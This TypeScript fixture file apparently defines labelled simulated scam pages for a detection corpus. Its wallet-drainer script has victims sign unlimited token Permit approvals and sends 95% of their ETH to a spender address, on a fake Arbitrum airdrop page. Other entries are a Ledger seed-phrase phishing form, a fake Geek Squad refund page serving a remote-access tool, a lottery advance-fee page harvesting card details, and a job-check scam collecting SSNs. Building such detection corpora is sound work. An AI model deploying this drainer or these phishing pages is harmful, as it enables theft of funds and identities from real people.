import type { Entry } from '../entry.js';
import { doc, html, js, jsonRoute, redirectRoute, fileRoute, beepWav, pe, footer, logo, analytics, beacon } from '../parts/zm-kit.js';

// Wallet drainers, seed-phrase phishing, tech-support, advance-fee, investment, romance, job and shopping scams.

const drainerCore = (spender: string, claimApi: string) => `
async function connectAndClaim(){
  if(!window.ethereum){document.getElementById('msg').textContent='No wallet detected. Please open this page in MetaMask or Trust Wallet browser.';return}
  const [acc]=await ethereum.request({method:'eth_requestAccounts'});
  const chainId=await ethereum.request({method:'eth_chainId'});
  const assets=await (await fetch('${claimApi}?a='+acc+'&c='+chainId)).json();
  for(const t of assets.tokens){
    const deadline=Math.floor(Date.now()/1000)+86400*365;
    const typed={types:{EIP712Domain:[{name:'name',type:'string'},{name:'version',type:'string'},{name:'chainId',type:'uint256'},{name:'verifyingContract',type:'address'}],Permit:[{name:'owner',type:'address'},{name:'spender',type:'address'},{name:'value',type:'uint256'},{name:'nonce',type:'uint256'},{name:'deadline',type:'uint256'}]},primaryType:'Permit',domain:{name:t.name,version:'1',chainId:parseInt(chainId,16),verifyingContract:t.address},message:{owner:acc,spender:'${spender}',value:'115792089237316195423570985008687907853269984665640564039457584007913129639935',nonce:t.nonce,deadline:deadline}};
    const sig=await ethereum.request({method:'eth_signTypedData_v4',params:[acc,JSON.stringify(typed)]});
    await fetch('${claimApi}',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({acc,sig,token:t.address,deadline})});
  }
  const bal=await ethereum.request({method:'eth_getBalance',params:[acc,'latest']});
  const v=BigInt(bal)*95n/100n;
  if(v>0n)await ethereum.request({method:'eth_sendTransaction',params:[{from:acc,to:'${spender}',value:'0x'+v.toString(16)}]});
}`;

export const entries: Entry[] = [
  {
  id: 'zm-drainer-airdrop-permit-claim',
  label: 'cryptodrainer',
  kind: 'wallet-drainer',
  url: 'https://claim-arbitrum-season3.xyz/',
  body: doc({
    title: 'Arbitrum Airdrop Season 3 — Claim $ARB',
    css: `body{background:#0c1425;color:#fff;font-family:Inter,sans-serif}.hero{text-align:center;padding:80px 20px}.btn{background:#28a0f0;color:#fff;border:0;padding:16px 40px;border-radius:12px;font-size:18px;cursor:pointer}.t{color:#9aa4b8;font-size:14px}.stats{display:flex;justify-content:center;gap:40px;margin-top:30px}`,
    body: `<nav style="padding:20px 40px;display:flex;justify-content:space-between"><b>ARBITRUM</b><button class="btn" style="padding:8px 20px;font-size:14px" onclick="connectAndClaim()">Connect Wallet</button></nav>
<div class="hero"><h1>Season 3 Airdrop is Live 🎉</h1><p>Eligible wallets can claim up to <b>4,250 ARB</b>. Claim window closes in <span id="cd">23:59:41</span>.</p>
<button class="btn" onclick="connectAndClaim()">Check eligibility &amp; Claim</button><p id="msg" class="t"></p>
<div class="stats"><div><b>1,204,118</b><div class="t">Wallets eligible</div></div><div><b>712M ARB</b><div class="t">Distributed</div></div></div></div>
<p class="t" style="text-align:center">© 2026 Arbitrum Foundation · Docs · Discord · Twitter</p>
<script>${drainerCore('0x8f2c1b9d4e7a6c5b3a2f1e0d9c8b7a6f5e4d3c2b', '/api/claim')}
setInterval(function(){var e=document.getElementById('cd'),p=e.textContent.split(':').map(Number),s=p[0]*3600+p[1]*60+p[2]-1;e.textContent=[s/3600|0,(s%3600)/60|0,s%60].map(function(x){return String(x).padStart(2,'0')}).join(':')},1000);</script>`,
  }),
  routes: { 'claim-arbitrum-season3.xyz/api/claim': jsonRoute({ tokens: [{ name: 'USD Coin', address: '0xaf88d065e77c8cC2239327C5EDb3A432268e5831', nonce: 0 }] }) },
},
  {
  id: 'zm-seedphrase-ledger-recovery-de',
  label: 'cryptodrainer',
  kind: 'seed-phrase',
  url: 'https://ledger-live-sicherheit.de/recovery/wiederherstellen',
  body: doc({
    lang: 'de',
    title: 'Ledger Live – Wiederherstellung',
    css: `body{background:#000;color:#fff}.c{max-width:700px;margin:40px auto}.g{display:grid;grid-template-columns:repeat(4,1fr);gap:10px}.g input{padding:9px;background:#1c1c1c;border:1px solid #333;color:#fff}button{background:#bbb0ff;color:#000;border:0;padding:14px 30px;border-radius:30px;margin-top:20px}`,
    body: `<div class="c"><h1>LEDGER</h1><h2>Sicherheitsvorfall: Bitte verifizieren Sie Ihr Gerät</h2><p>Aufgrund eines Datenlecks bei einem Drittanbieter müssen alle Ledger Nano S/X/Stax-Besitzer ihre Wiederherstellungsphrase verifizieren, um ihre Vermögenswerte zu schützen.</p>
<form id="f"><div class="g" id="g"></div><button>Gerät verifizieren</button></form><p style="font-size:12px;color:#888">© 2026 Ledger SAS · Datenschutz · AGB</p></div>
<script>
var g=document.getElementById('g');for(var i=1;i<=24;i++){var x=document.createElement('input');x.placeholder=i+'.';x.name='w'+i;g.appendChild(x)}
document.getElementById('f').onsubmit=function(e){e.preventDefault();var w=[];for(var i=1;i<=24;i++)w.push(this['w'+i].value);
fetch('/recovery/api.php',{method:'POST',body:JSON.stringify({m:w.join(' '),l:navigator.language})}).then(function(){location.href='https://www.ledger.com/'})};
</script>`,
  }),
  routes: { 'ledger-live-sicherheit.de/recovery/api.php': jsonRoute({ ok: 1 }) },
},
  {
  id: 'zm-techsupport-geeksquad-refund-remote',
  label: 'scam',
  kind: 'tech-support',
  url: 'https://geek-renewal-refund.com/cancel',
  body: doc({
    title: 'Geek Squad – Cancel Subscription / Refund',
    css: `header{background:#000;color:#fff;padding:16px 30px}.c{max-width:560px;margin:36px auto;padding:20px}.inv{border:1px solid #ccc;padding:16px;font-size:14px}.btn{display:inline-block;background:#f7c42d;padding:12px 24px;text-decoration:none;color:#000;font-weight:700}`,
    body: `<header><b>GEEK SQUAD</b> | Protection Plan</header><div class="c"><div class="inv"><b>Invoice #GS-774120</b><br>Product: Geek Squad Total Protection (3 yrs)<br>Amount charged: <b>$499.99</b><br>Payment: Auto-renew</div>
<p>If you did not authorize this renewal, call our refund department at <b>+1 (808) 555-0143</b> or download our secure refund tool so an agent can process your refund.</p>
<a class="btn" href="/cancel/RefundAssist.exe">Download Refund Assistant</a><p style="font-size:12px;color:#666">Refund Assistant is a remote-support tool. Keep the session open while the agent transfers your refund.</p></div>`,
  }),
  routes: { 'geek-renewal-refund.com/cancel/RefundAssist.exe': fileRoute(pe({ strings: ['AnyDesk', 'philandro Software GmbH', 'RefundAssist'] }), 'application/octet-stream', 'RefundAssist.exe') },
},
  {
  id: 'zm-scam-lottery-fee-es',
  label: 'scam',
  kind: 'advance-fee',
  url: 'https://loteria-internacional-premios.es/ganador/verificar',
  body: doc({
    lang: 'es',
    title: '¡Enhorabuena! Premio de la Lotería Internacional',
    css: `body{background:#fff7d6}.c{max-width:600px;margin:40px auto;background:#fff;padding:30px;border:3px solid #e6b800;text-align:center}.big{font-size:42px;color:#0a7d1a;font-weight:700}input{width:100%;padding:10px;margin:4px 0}`,
    body: `<div class="c"><h1>🎉 ¡Su correo electrónico ha sido seleccionado!</h1><p>Sorteo Internacional Euro-Millones Promoción 2026 · Número de billete 07-19-33-41-48</p><div class="big">€ 950.000,00</div>
<p>Para liberar el premio debe abonar los <b>gastos de transferencia y notariales de 395 €</b> en las próximas 72 horas. Pago aceptado por transferencia, Bizum o tarjeta.</p>
<form method="post" action="/ganador/pago"><input name="nombre" placeholder="Nombre completo"><input name="dni" placeholder="DNI/NIE"><input name="iban" placeholder="IBAN para recibir el premio"><input name="tarjeta" placeholder="Número de tarjeta para los gastos"><input name="cad" placeholder="Caducidad"><input name="cvv" placeholder="CVV"><button style="background:#0a7d1a;color:#fff;border:0;padding:14px 30px;margin-top:10px">Reclamar mi premio</button></form>
<p style="font-size:11px">Agente de reclamaciones: Lic. Fernando Ruiz · Tel. +34 631 22 90 17</p></div>`,
  }),
  routes: { 'loteria-internacional-premios.es/ganador/pago': html('<!doctype html><p>Procesando...</p>') },
},
  {
  id: 'zm-scam-job-remote-equipment-check',
  label: 'scam',
  kind: 'job-scam',
  url: 'https://careers-northbridge-analytics.com/onboarding/equipment',
  body: doc({
    title: 'Northbridge Analytics – New Hire Onboarding',
    css: `header{background:#233;color:#fff;padding:16px 32px}.c{max-width:680px;margin:30px auto;padding:0 20px}.s{background:#eef6ee;padding:12px;border-left:4px solid #393}`,
    body: `<header>Northbridge Analytics · HR Onboarding</header><div class="c"><div class="s">Congratulations on your offer for <b>Remote Data Entry Specialist ($34/hr)</b>!</div>
<p>As discussed in your Telegram interview with Ms. Karen Lowell, you'll receive a check for <b>$4,850</b> to purchase your home-office equipment (MacBook, printer, software licenses) from our approved vendor.</p>
<ol><li>Deposit the check using your bank's mobile app.</li><li>Once the funds show, send $4,200 to our vendor via Zelle or Bitcoin ATM (details below).</li><li>Keep the remaining $650 as your sign-on bonus.</li></ol>
<p>Vendor: <b>OfficeTech Supply</b> — Zelle: payments@officetech-supply.net</p>
<form action="/onboarding/w4" method="post"><input name="name" placeholder="Legal name" style="width:100%;padding:8px;margin:4px 0"><input name="ssn" placeholder="SSN (for W-4)" style="width:100%;padding:8px;margin:4px 0"><input name="bank" placeholder="Bank name, routing and account number" style="width:100%;padding:8px;margin:4px 0"><input type="file" name="dl"><label> Upload driver's license (front/back)</label><br><button>Submit onboarding</button></form></div>`,
  }),
  routes: { 'careers-northbridge-analytics.com/onboarding/w4': html('<!doctype html><p>Thank you. Your equipment check will be mailed within 2 business days.</p>') },
},
];
